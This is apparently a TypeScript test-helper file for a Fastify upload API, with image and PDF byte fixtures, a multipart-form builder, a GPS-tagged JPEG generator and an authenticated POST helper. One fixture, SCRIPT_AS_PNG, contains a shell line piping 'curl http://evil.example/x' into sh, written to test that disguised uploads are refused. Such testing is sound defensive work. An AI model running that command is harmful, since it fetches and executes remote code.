import type { FastifyInstance } from 'fastify';

/** A real 1x1 PNG. */
export const PNG_1X1 = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
  'base64',
);
/** The start of a JPEG (SOI + APP0/JFIF): enough for any magic-byte check. */
export const JPEG_HEAD = Buffer.concat([
  Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10]),
  Buffer.from('JFIF\0'),
  Buffer.alloc(64, 1),
]);
export const PDF_HEAD = Buffer.from('%PDF-1.7\n%âãÏÓ\n1 0 obj\n<<>>\nendobj\n');
/** A shell script that calls itself a PNG. */
export const SCRIPT_AS_PNG = Buffer.from('#!/bin/sh\ncurl http://evil.example/x | sh\n');

export interface UploadFile {
  data: Buffer;
  filename: string;
  type: string;
}

/**
 * Serialises fields and files as multipart/form-data, the way a browser's FormData does. An
 * array puts several files under one field name (FormData allows it; the API refuses it).
 */
export async function multipartBody(
  fields: Record<string, string>,
  files: Record<string, UploadFile | UploadFile[]> = {},
): Promise<{ payload: Buffer; headers: Record<string, string> }> {
  const form = new FormData();
  for (const [name, value] of Object.entries(fields)) form.append(name, value);
  for (const [name, entry] of Object.entries(files))
    for (const file of Array.isArray(entry) ? entry : [entry])
      form.append(name, new Blob([file.data], { type: file.type }), file.filename);
  const response = new Response(form);
  return {
    payload: Buffer.from(await response.arrayBuffer()),
    headers: { 'content-type': response.headers.get('content-type') ?? '' },
  };
}

/**
 * A phone photo in miniature: a real 16x16 JPEG whose EXIF names the camera and holds a GPS
 * position (51°30'26" N, 0°7'39" W), the metadata a public picture must not keep.
 */
export async function jpegWithGps(): Promise<Buffer> {
  const { default: sharp } = await import('sharp');
  return sharp({ create: { width: 16, height: 16, channels: 3, background: '#c9a227' } })
    .jpeg()
    .withExif({
      IFD0: { Make: 'PhoneCo', Model: 'Pocket 9' },
      IFD3: {
        GPSLatitudeRef: 'N',
        GPSLatitude: '51/1 30/1 2612/100',
        GPSLongitudeRef: 'W',
        GPSLongitude: '0/1 7/1 3972/100',
      },
    })
    .toBuffer();
}

/** A multipart POST as a browser sends a form, signed in with `token` when given. */
export async function postMultipart(
  app: FastifyInstance,
  url: string,
  token: string | null,
  fields: Record<string, string>,
  files: Record<string, UploadFile | UploadFile[]> = {},
) {
  const { payload, headers } = await multipartBody(fields, files);
  return app.inject({
    method: 'POST',
    url,
    payload,
    headers: { ...headers, ...(token ? { authorization: `Bearer ${token}` } : {}) },
  });
}
